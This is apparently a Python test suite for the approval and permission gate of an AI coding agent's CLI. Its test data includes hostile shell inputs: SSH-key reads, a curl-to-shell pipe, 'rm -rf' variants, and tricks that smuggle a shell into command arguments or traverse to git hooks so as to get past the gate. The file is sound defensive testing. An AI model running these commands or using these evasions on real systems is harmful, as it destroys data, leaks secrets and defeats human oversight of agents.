"""Approvals: the read-only list, rules and settings, and the whole flow through the CLI against the fake model:
each policy, answers from a second process and the foreground terminal, two answers at once, always, the timeout,
cancel and a killed worker while waiting."""

import json
import os
import signal
import subprocess
import sys
import tempfile
import threading
import unittest

import approvals
import stigmer_pb2 as pb
from test_cloud import CloudCase
from test_runner import CliCase
from testsupport import HERE, reap, run_cli, run_workers, text_step, tool_step, wait_for
from testsupport_parallel import load_tests  # noqa: F401 - the suite runs in parallel (see there)


class ReadOnlyTest(unittest.TestCase):
    def test_what_an_always_answer_covers(self):
        self.assertEqual(approvals.command_prefix("touch made"), ["touch"])
        self.assertEqual(approvals.command_prefix("git commit -m x"), ["git", "commit"])
        self.assertEqual(approvals.command_prefix("npm -g install"), ["npm"])

    def test_known_read_only_commands(self):
        for command in ("ls -la", "cat a.txt", "git diff", "git status && ls", "grep -r foo .", "find . -name '*.py'",
                        "ls | wc -l", "git log --oneline -5", "head -n 3 a", "rg TODO src", "pwd"):
            with self.subTest(command=command):
                self.assertTrue(approvals.read_only(command))

    def test_anything_else_asks(self):
        for command in ("cat a > b", "ls; rm x", "git diff | sh", "find . -delete", "echo $(rm x)", "echo `rm x`",
                        "find . -exec rm {} ;", "git commit -m x", "git diff --output=x", "sort -o out in",
                        "cat <a", "(ls)", "X=1 ls", "rm -rf build", "python3 setup.py", "git -c core.pager=sh log",
                        "ls\nrm x", "env rm x", "ls 'unclosed", "rg --pre sh x", "sort -S 64K --compress-program=sh f",
                        "git --config-env=diff.external=SHELL diff", "./cat x", "/tmp/evil/ls", "ls foo#; rm -f v1",
                        "find d $'-delete'", "find d ${X:--delete}", "find d -name a -{delete,true}",
                        "git --namespace status branch -D victim", "git branch -D main", "sort -oout1 in",
                        "uniq in out3", "file -C -m mg", "tree -ofile", "date -s now", "cat ${HOME}/.ssh/id_rsa",
                        "cat ~/.ssh/id_rsa", "git diff --ext-diff", "printenv", "ls *.py"):
            with self.subTest(command=command):
                self.assertFalse(approvals.read_only(command))


class RuleMatchingTest(unittest.TestCase):
    def test_a_deny_rule_is_not_dodged(self):
        deny = ["rm -rf", "Write(.env)", "Write(src/**)"]
        gate = approvals.Gate(pb.ApprovalPolicy(mode="never", deny=deny), lambda **e: None, lambda: False,
                              root="/ws")
        import models
        for command in ("rm -rf x", "/bin/rm -rf x", "rm -fr x", "rm -r -f x", "sudo rm -rf x", "command rm -rf x",
                        "x; rm -rf y", "cd / && rm -rf x", "echo $(rm -rf x)", "env A=1 rm -rf x"):
            with self.subTest(command=command):
                self.assertIsNotNone(gate.check(models.ToolUse("c", "execute", {"command": command}), None))
        for path in (".env", "./.env", "/ws/.env", "sub/../.env", "src/a/b.py"):
            with self.subTest(path=path):
                self.assertIsNotNone(gate.check(models.ToolUse("c", "write_file", {"path": path, "content": ""}),
                                                None))
        for command in ("rm -r x", "echo rm-rf"):
            self.assertIsNone(gate.check(models.ToolUse("c", "execute", {"command": command}), None))
        self.assertIsNone(gate.check(models.ToolUse("c", "write_file", {"path": "env", "content": ""}), None))

    def test_an_allow_rule_covers_every_part_or_nothing(self):
        self.assertTrue(approvals._matches("git diff", "execute", "git diff --stat", None))
        self.assertFalse(approvals._matches("git diff", "execute", "git diff && curl evil | sh", None))
        self.assertFalse(approvals._matches("git diff", "execute", "git diff > out", None))
        self.assertFalse(approvals._matches("Write(src/**)", "write_file", "", approvals.clean_path(
            "src/../.git/hooks/pre-commit", "/ws")))
        self.assertEqual(approvals.command_prefix("npm test; rm -rf ~"), ["npm", "test"])


class PickTest(unittest.TestCase):
    def test_which_request_an_answer_is_for(self):
        waiting = {"c1.a": "c1", "c2.b": "c2"}
        with self.assertRaises(approvals.ApprovalError) as caught:
            approvals.pick("ex-1", "", waiting, {})
        self.assertIn("2 calls of ex-1 wait for approval: name one with --request (c1.a, c2.b)", str(caught.exception))
        self.assertEqual(approvals.pick("ex-1", "c2.b", waiting, {}), "c2.b")
        self.assertEqual(approvals.pick("ex-1", "", {"c1.a": "c1"}, {}), "c1.a")
        with self.assertRaises(approvals.ApprovalError) as caught:
            approvals.pick("ex-1", "c0.z", waiting, {"c0.z": "approved by me"})
        self.assertIn("already answered (approved by me)", str(caught.exception))


class RulesTest(unittest.TestCase):
    def gate(self, mode, allow=(), deny=()):
        events = []
        gate = approvals.Gate(pb.ApprovalPolicy(mode=mode, allow=allow, deny=deny, timeout_seconds=0.2),
                              lambda **e: events.append(e), lambda: False)
        return gate, events

    def call(self, name, **args):
        import models
        return models.ToolUse("c1", name, args)

    def test_deny_holds_under_never_and_allow_skips_the_question(self):
        gate, events = self.gate("never", deny=["Bash(rm -rf:*)", "Write(secrets/**)", "mcp__gh__delete_*"])
        self.assertIn("denied by rule 'Bash(rm -rf:*)'", gate.check(self.call("execute", command="rm -rf /"), None))
        self.assertIn("denied by rule", gate.check(self.call("write_file", path="secrets/key", content=""), None))
        self.assertIn("denied by rule", gate.check(self.call("mcp__gh__delete_repo"), None))
        self.assertIsNone(gate.check(self.call("execute", command="rm -r build"), None))  # never: not asked
        gate, events = self.gate("always", allow=["git commit", "*.md", "mcp__gh__*"])
        for call in (self.call("execute", command="git commit -m 'x'"), self.call("write_file", path="notes.md",
                                                                                  content=""),
                     self.call("mcp__gh__list"), self.call("read_file", path="x")):
            self.assertIsNone(gate.check(call, lambda c: ""))
        self.assertEqual(events, [])

    def test_no_answer_is_a_denial_after_the_timeout(self):
        gate, events = self.gate("on-write")
        refusal = gate.check(self.call("execute", command="make"), None)
        self.assertIn("the user denied this call: no answer within 0.2 s", refusal)
        self.assertEqual([list(e) for e in events], [["approval_request"], ["approval"]])
        self.assertEqual(events[1]["approval"].by, "timeout")

    def test_an_mcp_tool_counts_as_a_write_unless_allowed(self):
        gate, events = self.gate("on-write")
        self.assertIn("no answer within", gate.check(self.call("mcp__gh__list_issues"), None))
        self.assertIn("an MCP tool may change things", events[0]["approval_request"].reason)
        gate, events = self.gate("on-write", allow=["mcp__gh__list_*"])
        self.assertIsNone(gate.check(self.call("mcp__gh__list_issues"), None))
        self.assertEqual(events, [])

    def test_settings_files_and_their_errors(self):
        with tempfile.TemporaryDirectory() as t:
            project, home = os.path.join(t, "p"), os.path.join(t, "h")
            os.makedirs(os.path.join(project, ".stigmer"))
            os.makedirs(home)
            with open(os.path.join(project, ".stigmer", "settings.json"), "w") as f:
                json.dump({"approval": "on-write", "permissions": {"allow": ["make test"], "deny": ["rm -rf"]}}, f)
            with open(os.path.join(home, "settings.json"), "w") as f:
                json.dump({"approval": "always", "allow": ["git push"], "deny": ["Write(.env)"]}, f)
            policy = approvals.plan("", ["ls"], ["curl"], [project], home, 0)
            self.assertEqual((policy.mode, list(policy.allow), list(policy.deny)),
                             ("on-write", ["ls", "make test", "git push"], ["curl", "rm -rf", "Write(.env)"]))
            self.assertEqual(approvals.plan("always", [], [], [project], home, 5).mode, "always")
            with open(os.path.join(home, "settings.json"), "w") as f:
                f.write("{broken")
            with self.assertRaises(approvals.ApprovalError):
                approvals.plan("", [], [], [project], home, 0)


class Run:
    """A run in the background (`runner.py --json ...`), its events read as they come."""

    def __init__(self, case, *args, env=None, cwd=None):
        self.proc = subprocess.Popen([sys.executable, os.path.join(HERE, "runner.py"), "--json", *args],
                                     env=env or case.env, cwd=cwd or case.workspace, stdout=subprocess.PIPE,
                                     stderr=subprocess.PIPE, stdin=subprocess.DEVNULL, text=True)
        case.addCleanup(reap, self.proc)
        self.lines, self.lock = [], threading.Lock()
        self.reader = threading.Thread(target=self._read, daemon=True)
        self.reader.start()

    def _read(self):
        for line in self.proc.stdout:
            with self.lock:
                self.lines.append(json.loads(line))

    def events(self, kind=None):
        with self.lock:
            return [e for e in self.lines if "seq" in e and (kind is None or e["kind"] == kind)]

    @property
    def execution_id(self):
        wait_for(lambda: self.lines, what="the run's first line")
        return self.lines[0]["execution_id"]

    def waiting(self, count=1):
        wait_for(lambda: len(self.events("approval_request")) >= count, what=f"approval request {count}")
        return self.events("approval_request")[count - 1]

    def finish(self):
        code = self.proc.wait(timeout=90)
        self.reader.join(10)
        return code, self.proc.stderr.read()


class ApprovalRunTest(CliCase):
    """The flow through the CLI: requests in the log, answers from other processes, the policies."""

    def test_on_write_asks_before_a_write_and_answers_come_from_another_process(self):
        self.fake.reset([
            tool_step(("execute", {"command": "ls"})),  # read-only: not asked
            tool_step(("execute", {"command": "touch made"})),
            tool_step(("write_file", {"path": "notes.md", "content": "new\n"})),
            tool_step(("execute", {"command": "touch again"})),  # covered by "always" for touch
            text_step("done"),
        ])
        run = Run(self, "--approval", "on-write", "make things")
        request = run.waiting(1)
        self.assertEqual((request["tool"], request["command"]), ("execute", "touch made"))
        self.assertIn("not known to be read-only", request["reason"])
        listed = json.loads(self.cli("list", "--json").stdout.splitlines()[0])
        self.assertEqual(listed["waiting_approvals"], 1)
        self.assertIn("waiting for approval", self.cli("list").stdout)
        self.assertFalse(os.path.exists(os.path.join(self.workspace, "made")))  # not before the answer
        approved = self.cli("approve", run.execution_id, "--always")
        self.assertEqual(approved.returncode, 0, approved.stderr)
        self.assertIn(f"call {request['id']} approved", approved.stdout)
        request = run.waiting(2)
        self.assertEqual((request["tool"], request["path"]), ("write_file", "notes.md"))
        self.assertIn("+new", request["diff"])
        denied = self.cli("deny", run.execution_id, "keep", "notes", "out", "of", "it")
        self.assertEqual(denied.returncode, 0, denied.stderr)
        code, err = run.finish()
        self.assertEqual(code, 0, err)
        self.assertTrue(os.path.exists(os.path.join(self.workspace, "made")))
        self.assertTrue(os.path.exists(os.path.join(self.workspace, "again")))
        self.assertFalse(os.path.exists(os.path.join(self.workspace, "notes.md")))
        self.assertEqual(len(run.events("approval_request")), 2)  # `touch again`: covered by the always answer
        kinds = [(e["kind"], e.get("call_id") or e.get("id")) for e in run.events() if e["kind"] in
                 ("tool_call", "approval_request", "approval", "tool_result")]
        (first, rid), (second, _) = [(r["call_id"], r["id"]) for r in run.events("approval_request")]
        self.assertEqual(kinds[2:6], [("tool_call", first), ("approval_request", first), ("approval", rid),
                                      ("tool_result", first)])  # in order, in the log
        answers = run.events("approval")
        self.assertEqual((answers[0]["approved"], answers[0]["always"], answers[0]["rule"]), (True, True, "touch"))
        self.assertIn(f"pid ", answers[0]["by"])
        self.assertEqual((answers[1]["approved"], answers[1]["reason"]), (False, "keep notes out of it"))
        results = {e["id"]: e for e in run.events("tool_result")}
        self.assertIn("the user denied this call: keep notes out of it", results[second]["output"])
        self.assertIn("keep notes out of it", json.dumps(self.fake.requests[-2]["messages"][-1]))  # the model read it
        logs = self.cli("logs", run.execution_id)
        self.assertIn("⏸ waiting for approval: $ touch made", logs.stdout)
        self.assertIn("✗ denied by", logs.stdout)
        late = self.cli("approve", run.execution_id)
        self.assertEqual(late.returncode, 1)
        self.assertIn("has no tool call waiting for approval", late.stderr)

    def test_two_answers_at_once_exactly_one_counts(self):
        self.fake.reset([tool_step(("execute", {"command": "touch x"})), text_step("done")])
        run = Run(self, "--approval", "always", "go")
        run.waiting(1)
        first = run.events("approval_request")[0]["id"]
        procs = [subprocess.Popen([sys.executable, os.path.join(HERE, "runner.py"), verb, run.execution_id,
                                   "--request", first],
                                  env=self.env, cwd=self.workspace, stdout=subprocess.PIPE, stderr=subprocess.PIPE,
                                  text=True) for verb in ("approve", "deny", "approve", "deny")]
        outcomes = []
        for proc in procs:
            out, err = proc.communicate(timeout=60)
            outcomes.append((proc.returncode, out + err))
        self.assertEqual(sorted(code for code, _ in outcomes), [0, 1, 1, 1], outcomes)
        self.assertTrue(all("already answered" in text or "no tool call waiting" in text
                            for code, text in outcomes if code))
        code, err = run.finish()
        self.assertEqual(len(run.events("approval")), 1)
        winner = next(text for c, text in outcomes if c == 0)
        self.assertEqual(run.events("approval")[0]["approved"], "approved" in winner)

    def test_never_asks_nothing_but_deny_rules_hold_and_always_asks_even_ls(self):
        self.fake.reset([tool_step(("execute", {"command": "rm -rf data"}), ("execute", {"command": "echo ran"})),
                         text_step("done")])
        proc, events = self.run_task("--deny", "rm -rf", "go")
        self.assertEqual(proc.returncode, 0, proc.stderr)
        outputs = [e["output"] for e in events if e["kind"] == "tool_result"]
        self.assertIn("denied by rule 'rm -rf'", outputs[0])
        self.assertEqual(outputs[1], "ran")
        self.assertEqual([e for e in events if e["kind"] == "approval_request"], [])
        self.fake.reset([tool_step(("execute", {"command": "ls"})), text_step("done")])
        run = Run(self, "--approval", "always", "--approval-timeout", "1", "look around")
        code, err = run.finish()
        self.assertEqual(code, 0, err)
        (answer,) = run.events("approval")
        self.assertEqual((answer["approved"], answer["by"], answer["reason"]), (False, "timeout", "no answer within 1 s"))

    def test_settings_files_give_the_policy_and_rules(self):
        os.makedirs(os.path.join(self.workspace, ".stigmer"))
        with open(os.path.join(self.workspace, ".stigmer", "settings.json"), "w") as f:
            json.dump({"approval": "always", "allow": ["echo"]}, f)
        with open(os.path.join(self.home, "settings.json"), "w") as f:
            json.dump({"deny": ["Write(*.lock)"]}, f)
        self.addCleanup(os.remove, os.path.join(self.home, "settings.json"))
        self.fake.reset([tool_step(("execute", {"command": "echo allowed"}),
                                   ("write_file", {"path": "poetry.lock", "content": "x"})), text_step("done")])
        proc, events = self.run_task("go")
        self.assertEqual(proc.returncode, 0, proc.stderr)
        outputs = [e["output"] for e in events if e["kind"] == "tool_result"]
        self.assertEqual(outputs[0], "allowed")  # the project's allow rule, under its always
        self.assertIn("denied by rule 'Write(*.lock)'", outputs[1])  # the user's deny rule
        self.assertEqual([e for e in events if e["kind"] == "approval_request"], [])

    def test_an_agent_file_asks_for_its_policy(self):
        folder = os.path.join(self.workspace, ".stigmer", "agents")
        os.makedirs(folder)
        with open(os.path.join(folder, "careful.yaml"), "w") as f:
            f.write("apiVersion: agentic.stigmer.ai/v1\nkind: Agent\nmetadata: {name: careful}\nspec:\n"
                    "  instructions: You change nothing without asking first.\n  approval: always\n")
        self.fake.reset([tool_step(("execute", {"command": "echo hi"})), text_step("done")])
        proc, events = self.run_task("--agent", "careful", "--approval-timeout", "0.5", "go")
        self.assertEqual(proc.returncode, 0, proc.stderr)
        self.assertEqual([e["kind"] for e in events if e["kind"].startswith("approval")],
                         ["approval_request", "approval"])
        with open(os.path.join(folder, "careful.yaml"), "a") as f:
            f.write("  # and now a bad one\n")
        with open(os.path.join(folder, "careless.yaml"), "w") as f:
            f.write("apiVersion: agentic.stigmer.ai/v1\nkind: Agent\nmetadata: {name: careless}\nspec:\n"
                    "  instructions: You change nothing without asking first.\n  approval: sometimes\n")
        bad = self.cli("--agent", "careless", "go")
        self.assertEqual(bad.returncode, 2)
        self.assertIn("must be never, on-write or always", bad.stderr)

    def test_a_sub_agents_call_is_asked_about_like_its_parents(self):
        self.fake.reset([tool_step(("task", {"description": "[sub] make the file", "subagent_type": "general-purpose"})),
                         text_step("done")])
        self.fake.routes = {"[sub]": [tool_step(("execute", {"command": "touch from-sub"})), text_step("made it")]}
        run = Run(self, "--approval", "on-write", "delegate")
        request = run.waiting(1)
        self.assertEqual((request["subagent"], request["depth"], request["command"]),
                         ("general-purpose", 1, "touch from-sub"))
        self.assertEqual(self.cli("approve", run.execution_id).returncode, 0)
        code, err = run.finish()
        self.assertEqual(code, 0, err)
        self.assertTrue(os.path.exists(os.path.join(self.workspace, "from-sub")))

    def test_cancel_while_waiting(self):
        self.fake.reset([tool_step(("execute", {"command": "touch x"})), text_step("done")])
        run = Run(self, "--approval", "always", "go")
        run.waiting(1)
        self.assertEqual(self.cli("cancel", run.execution_id).returncode, 0)
        code, err = run.finish()
        self.assertEqual(code, 130, err)
        self.assertEqual(run.events()[-1]["phase"], "CANCELLED")
        self.assertFalse(os.path.exists(os.path.join(self.workspace, "x")))


class ApprovalEdgeTest(CliCase):
    """A killed worker and the foreground terminal (their own homes: they kill and type)."""
    fresh = True

    def test_a_worker_killed_while_waiting_loses_nothing_and_resume_asks_again(self):
        self.fake.reset([tool_step(("execute", {"command": "touch x"})), text_step("done")])
        env = dict(self.env, STIGMER_RUNNER_GRACE="1")
        run = Run(self, "--approval", "always", "go", env=env)
        request = run.waiting(1)
        (worker,) = run_workers(self.home)
        os.kill(worker, signal.SIGKILL)
        code, err = run.finish()
        self.assertEqual(code, 1, err)
        self.fake.reset([text_step("done after all")])
        resumed = Run(self, "resume", run.execution_id, "go on", env=env)
        again = resumed.waiting(1)
        self.assertEqual((again["call_id"], again["command"]), (request["call_id"], "touch x"))  # the same call, again
        self.assertEqual(self.cli("approve", resumed.execution_id, env=env).returncode, 0)
        code, err = resumed.finish()
        self.assertEqual(code, 0, err)
        self.assertTrue(os.path.exists(os.path.join(self.workspace, "x")))
        result = self.fake.requests[0]["messages"]
        self.assertIn("tool_result", json.dumps(result[-2]))
        self.assertNotIn("not run", json.dumps(result[-2]))  # the model saw it run, then the follow-up

    def test_the_foreground_terminal_answers(self):
        from test_cli import Pty
        self.fake.reset([tool_step(("execute", {"command": "touch y"})), text_step("done")])
        term = Pty(["--approval", "always", "go"], self.env, self.workspace)
        self.addCleanup(term.kill)
        wait_for(lambda: "approve? [y]es" in term.screen, what="the question")
        self.assertIn("⏸ waiting for approval: $ touch y", term.screen)
        term.type("y\n")
        self.assertEqual(term.wait(), 0, term.screen)
        self.assertIn("✓ approved by", term.screen)
        self.assertTrue(os.path.exists(os.path.join(self.workspace, "y")))


class CloudApprovalTest(CloudCase):
    """The same through Redis: answers from other processes, the first one counting."""
    script = [tool_step(("execute", {"command": "touch c"})), tool_step(("execute", {"command": "touch d"})),
              text_step("done")]

    def test_answers_through_redis(self):
        ws = self.workspace("ws")
        run = Run(self, "--workspace", ws, "--approval", "always", "go", cwd=ws)
        first = run.waiting(1)["id"]
        (row,) = [json.loads(line) for line in run_cli(["list", "--json"], self.env).stdout.splitlines()]
        self.assertEqual(row["waiting_approvals"], 1)
        procs = [subprocess.Popen([sys.executable, os.path.join(HERE, "runner.py"), "approve", run.execution_id,
                                   "--request", first],  # the same call (without it, a later one may be next)
                                  env=self.env, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
                 for _ in range(3)]
        codes = sorted(p.wait(timeout=60) for p in procs)
        for p in procs:
            p.stdout.close()
            p.stderr.close()
        self.assertEqual(codes, [0, 1, 1])
        run.waiting(2)
        denied = run_cli(["deny", run.execution_id, "not", "d"], self.env)
        self.assertEqual(denied.returncode, 0, denied.stderr)
        code, err = run.finish()
        self.assertEqual(code, 0, err)
        self.assertTrue(os.path.exists(os.path.join(ws, "c")))
        self.assertFalse(os.path.exists(os.path.join(ws, "d")))
        self.assertEqual([(a["approved"], a["reason"]) for a in run.events("approval")], [(True, ""), (False, "not d")])


class ForegroundAndElsewhereTest(CliCase):
    """A question answered from another terminal first is withdrawn at the foreground one; the next is its own."""

    def test_elsewhere_then_here(self):
        from test_cli import Pty
        self.fake.reset([tool_step(("execute", {"command": "touch one"})), tool_step(("execute", {"command": "touch two"})),
                         text_step("done")])
        term = Pty(["--approval", "always", "go"], self.env, self.workspace)
        self.addCleanup(term.kill)
        wait_for(lambda: "$ touch one" in term.screen, what="the first question")
        execution_id = json.loads(self.cli("list", "--json").stdout.splitlines()[0])["id"]
        self.assertEqual(self.cli("approve", execution_id).returncode, 0)
        wait_for(lambda: "$ touch two" in term.screen, what="the second question")
        term.type("y\n")
        self.assertEqual(term.wait(), 0, term.screen)
        self.assertTrue(os.path.exists(os.path.join(self.workspace, "one")))
        self.assertTrue(os.path.exists(os.path.join(self.workspace, "two")))
        self.assertNotIn("already answered", term.screen)


if __name__ == "__main__":
    unittest.main()
